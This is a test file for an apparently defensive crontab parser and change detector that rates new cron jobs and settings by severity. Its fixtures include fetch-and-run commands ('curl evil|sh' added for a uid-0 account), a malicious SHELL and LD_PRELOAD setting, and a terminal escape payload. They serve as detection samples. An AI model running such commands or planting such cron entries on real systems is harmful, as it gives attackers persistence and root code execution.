import { assertEquals } from "../../../test/assert.ts";
import { changeSeverity } from "../semantic_change.ts";
import { parseCrontab } from "./crontab.ts";
import { diffCron } from "./cron_diff.ts";
import { consumerNameFor } from "../registry.ts";

const SYSTEM = [
  "# /etc/crontab",
  "SHELL=/bin/sh",
  'PATH = "/usr/sbin:/usr/bin"',
  "17 *\t* * *\troot  cd / && run-parts --report /etc/cron.hourly",
  "@reboot root /usr/local/bin/boot.sh",
  "  # indented comment",
  "*/5 * * * * www-data php /var/www/cron.php FOO=bar",
  "0 0 * * *",
].join("\n");

Deno.test("crontab: settings, jobs with five fields or @, the user field of a system crontab", () => {
  const r = parseCrontab(SYSTEM, true);
  assertEquals(r.settings.map((s) => [s.name, s.value]), [["SHELL", "/bin/sh"], [
    "PATH",
    "/usr/sbin:/usr/bin",
  ]]);
  assertEquals(r.entries.map((j) => [j.line, j.schedule, j.user ?? null, j.command]), [
    [4, "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly"],
    [5, "@reboot", "root", "/usr/local/bin/boot.sh"],
    [7, "*/5 * * * *", "www-data", "php /var/www/cron.php FOO=bar"],
    // Incomplete: kept whole, never dropped.
    [8, "", null, "0 0 * * *"],
  ]);
  const user = parseCrontab("@hourly curl -s x | sh\n", false);
  assertEquals(user.entries.map((j) => [j.schedule, j.user ?? null, j.command]), [
    ["@hourly", null, "curl -s x | sh"],
  ]);
});

const uidOf = (u: string) =>
  ({ root: 0, toor: 0, "www-data": 33, nobody: 65534 } as Record<string, number>)[u];
const diff = (a: string, b: string, owner?: string) =>
  diffCron(
    (({ entries, settings }) => ({ jobs: entries, settings }))(
      parseCrontab(a, owner === undefined),
    ),
    (({ entries, settings }) => ({ jobs: entries, settings }))(
      parseCrontab(b, owner === undefined),
    ),
    "/etc/cron.d/x",
    uidOf,
    owner,
  );

Deno.test("cron: a job added runs code: critical as a uid-0 account, high otherwise", () => {
  const root = diff(SYSTEM, `${SYSTEM}\n* * * * * toor curl evil|sh\n`);
  assertEquals(root.map((c) => [c.action, c.message, changeSeverity(c)]), [
    ["cron_job_added", "cron job added for toor: * * * * * curl evil|sh", "critical"],
  ]);
  const other = diff(SYSTEM, `${SYSTEM}\n@daily www-data /bin/true\n`);
  assertEquals(changeSeverity(other[0]), "high");
  const mine = diff("", "@reboot /tmp/x\x1b[2J\n", "nobody");
  assertEquals(mine[0].message, "cron job added for nobody: @reboot /tmp/x\\x1b[2J");
  assertEquals(mine[0].fields, { user: { name: "nobody", id: "65534" } });
  const removed = diff(SYSTEM, SYSTEM.replace(/^@reboot.*$/m, ""));
  assertEquals([removed[0].action, changeSeverity(removed[0])], ["cron_job_removed", "medium"]);
});

Deno.test("cron: a setting that steers every job is high", () => {
  const out = diff(
    SYSTEM,
    SYSTEM.replace("SHELL=/bin/sh", "SHELL=/tmp/sh\nLD_PRELOAD=/tmp/x.so\nMAILTO=a"),
  );
  assertEquals(out.map((c) => [c.message, changeSeverity(c)]), [
    ['cron setting SHELL: "/bin/sh" → "/tmp/sh"', "high"],
    ['cron setting LD_PRELOAD: unset → "/tmp/x.so"', "high"],
    ['cron setting MAILTO: unset → "a"', "medium"],
  ]);
});

Deno.test("cron: which files cron reads by name", () => {
  assertEquals(consumerNameFor("/etc/crontab"), "cron");
  assertEquals(consumerNameFor("/etc/cron.d/certbot"), "cron");
  assertEquals(consumerNameFor("/etc/cron.d/certbot.dpkg-old"), "generic");
  assertEquals(consumerNameFor("/var/spool/cron/crontabs/alice"), "cron");
  assertEquals(consumerNameFor("/etc/cron.daily/logrotate"), "generic");
});
